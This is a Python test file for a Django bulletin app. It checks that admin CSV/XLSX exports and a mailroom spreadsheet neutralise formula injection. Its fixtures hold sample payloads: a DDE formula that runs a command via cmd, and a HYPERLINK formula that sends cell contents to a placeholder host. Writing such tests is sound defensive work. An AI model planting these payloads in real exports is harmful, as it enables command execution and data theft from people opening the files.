"""Every spreadsheet the system writes is safe to open in Excel or WPS: text never runs as a formula."""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from bulletins.mailroom import mailroom_sheet, mailroom_xlsx
from bulletins.models import Role, WordingRule
from bulletins.services import issue_create
from tests.factories import ArticleFactory, DistributionListFactory, OrganisationFactory, PublicationFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
STARTS = ["+86 10 6600 0000", "-收件人", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile():
    """A record of every exported kind whose text starts like a formula, as a user typed it."""
    publication = PublicationFactory(slug="gzjb", name="工作简报")
    organisation = OrganisationFactory(name=DDE, contact=HYPERLINK, address=STARTS[1],
                                       postcode=STARTS[2])
    listing = DistributionListFactory(publication=publication, name="=1+1", role=Role.ISSUE,
                                      is_default=True, position=0)
    listing.members.create(organisation=organisation, position=0)
    issue = issue_create(publication=publication, date=datetime.date(2024, 1, 10), number=1,
                         editor_note=STARTS[0])
    ArticleFactory(issue=issue, position=0, title="=标题", byline=STARTS[3], source=STARTS[4])
    WordingRule.objects.create(publication=publication, wrong="=A1", right="@A2", note="-说明")
    return issue


def _admin_export(client, model: str, fmt: str) -> bytes:
    url = reverse(f"admin:bulletins_{model}_export")
    form = client.get(url).context["form"]
    [index] = [value for value, label in form.fields["format"].choices if label == fmt]
    data = {"format": index, "resource": "0", "export_items": []}
    data.update({name: "on" for name, field in form.fields.items()
                 if field.widget.input_type == "checkbox"})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def _cells_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _cells_xlsx(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


MODELS = {
    "organisation": [DDE, HYPERLINK, STARTS[1], STARTS[2]],
    "distributionlist": ["=1+1"],
    "issue": [STARTS[0]],
    "article": ["=标题", STARTS[3], STARTS[4]],
    "wordingrule": ["=A1", "@A2", "-说明"],
}


@pytest.mark.parametrize("model", MODELS)
def test_admin_csv_exports_prefix_formula_cells_with_an_apostrophe(client, admin_user, hostile, model):
    client.force_login(admin_user)
    cells = _cells_csv(_admin_export(client, model, "csv"))
    for value in MODELS[model]:
        assert "'" + value in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("model", MODELS)
def test_admin_xlsx_exports_write_formula_text_as_strings(client, admin_user, hostile, model):
    client.force_login(admin_user)
    cells = _cells_xlsx(_admin_export(client, model, "xlsx"))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value: cell.data_type for cell in cells}
    for value in MODELS[model]:
        assert values[value] == "s"


def test_an_exported_csv_comes_back_unchanged(client, admin_user, hostile):
    client.force_login(admin_user)
    exported = _admin_export(client, "organisation", "csv")
    url = reverse("admin:bulletins_organisation_import")
    form = client.get(url).context["form"]
    [index] = [value for value, label in form.fields["format"].choices if label == "csv"]
    response = client.post(url, {"format": index, "resource": "0",
                                 "import_file": SimpleUploadedFile("单位.csv", exported)})
    result = response.context["result"]
    assert (result.totals["skip"], result.totals["update"], result.totals["new"]) == (1, 0, 0)


def test_the_mailroom_sheet_writes_formula_text_as_strings(hostile):
    cells = _cells_xlsx(mailroom_xlsx(sheet=mailroom_sheet(issue=hostile)))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value: cell.data_type for cell in cells}
    assert values[DDE] == values[HYPERLINK] == "s"
